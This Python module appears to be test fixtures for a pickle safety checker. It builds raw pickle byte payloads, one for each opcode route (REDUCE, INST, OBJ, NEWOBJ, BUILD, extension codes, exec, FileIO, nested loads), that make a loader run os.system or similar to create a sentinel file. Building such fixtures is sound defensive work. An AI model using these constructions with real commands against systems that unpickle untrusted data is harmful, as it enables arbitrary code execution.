"""Pieces of pickle that leave a file behind when a loader executes them, one for each way to."""

from __future__ import annotations

import struct

SENTINEL = "executed"
"""The file, in the current folder."""
EXTENSION = 7
"""The number under which `copyreg` would have to know `os.system`."""


def _text(text: str) -> bytes:
    return b"X" + struct.pack("<I", len(text)) + text.encode()


def _short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


_SYSTEM = b"cos\nsystem\n"
_TOUCH = _text(f"touch {SENTINEL}")
_CALL = _TOUCH + b"\x85R"
_MAP = b"cbuiltins\nmap\n" + _SYSTEM + b"]" + _TOUCH + b"a\x86\x81"

#: Each pushes one value, whatever stands on the stack.
PAYLOADS = {
    "GLOBAL and REDUCE": _SYSTEM + _CALL,
    "STACK_GLOBAL and REDUCE": _short("os") + _short("system") + b"\x93" + _CALL,
    "INST": b"(" + _TOUCH + b"ios\nsystem\n",
    "OBJ": b"(" + _SYSTEM + _TOUCH + b"o",
    "NEWOBJ": b"cbuiltins\nbytes\n" + _MAP + b"\x85\x81",
    "NEWOBJ_EX": b"cbuiltins\nbytes\n" + _MAP + b"\x85}\x92",
    "BUILD": b"cfunctools\npartial\ncbuiltins\nprint\n\x85R("
    + (_SYSTEM + _TOUCH + b"\x85}Ntb")
    + b")R",
    "EXT1": b"\x82" + bytes([EXTENSION]) + _CALL,
    "EXT2": b"\x83" + struct.pack("<H", EXTENSION) + _CALL,
    "EXT4": b"\x84" + struct.pack("<I", EXTENSION) + _CALL,
    "exec": b"cbuiltins\nexec\n" + _text(f"open({SENTINEL!r}, 'w')") + b"\x85R",
    "FileIO": b"c_io\nFileIO\n" + _text(SENTINEL) + _text("w") + b"\x86R",
    "nested": b"c_pickle\nloads\nC"
    + bytes([len(_SYSTEM + _CALL) + 1])
    + _SYSTEM
    + _CALL
    + b".\x85R",
}
